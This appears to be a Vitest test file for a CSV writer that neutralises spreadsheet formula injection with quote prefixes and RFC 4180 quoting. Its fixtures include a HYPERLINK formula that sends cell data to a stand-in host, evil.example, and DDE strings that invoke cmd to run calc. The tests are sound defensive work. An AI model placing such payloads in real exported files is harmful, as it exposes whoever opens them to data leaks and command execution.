// The one CSV writer: RFC 4180 quoting, and no cell a spreadsheet would run as a formula.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvField, csvLine, defuseFormula } from '../../../src/pipeline/csv-writer.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik untuk perbaiki")';
const DDE = "+cmd|' /C calc'!A0";

describe('defuseFormula', () => {
  it.each([
    [HYPERLINK, `'${HYPERLINK}`],
    [DDE, `'${DDE}`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['+62 812 3456 7890', "'+62 812 3456 7890"],
  ])('prefixes %j with a quote', (text, inert) => {
    expect(defuseFormula(text)).toBe(inert);
  });

  it.each(['-5', '+3', '-1,5', '-0.25', '-', '+', '', 'Juru las', '2025-Q1', 'a=b', '5-3'])('leaves %j as written', (text) => {
    expect(defuseFormula(text)).toBe(text);
  });
});

describe('csvField and csvLine', () => {
  it('writes numbers as numbers, negative ones included', () => {
    expect(csvLine([-12, 0.417, 3, 'x'])).toBe('-12,0.417,3,x');
  });

  it('defuses text before quoting it, so the quote prefix sits inside the quotes', () => {
    expect(csvField(HYPERLINK)).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik untuk perbaiki"")"');
    expect(csvField('=1;2', { delimiter: ';' })).toBe('"\'=1;2"');
    expect(csvField('a,b', { delimiter: ';' })).toBe('a,b');
  });

  it('round-trips through a well-kept CSV parser as the inert text', () => {
    const line = csvLine(['vacancies', 'lowongan.csv', 7, 'positions', HYPERLINK, DDE, 'baris\nbaru "kutip"']);
    expect(parse(line)).toEqual([['vacancies', 'lowongan.csv', '7', 'positions', `'${HYPERLINK}`, `'${DDE}`, 'baris\nbaru "kutip"']]);
  });
});
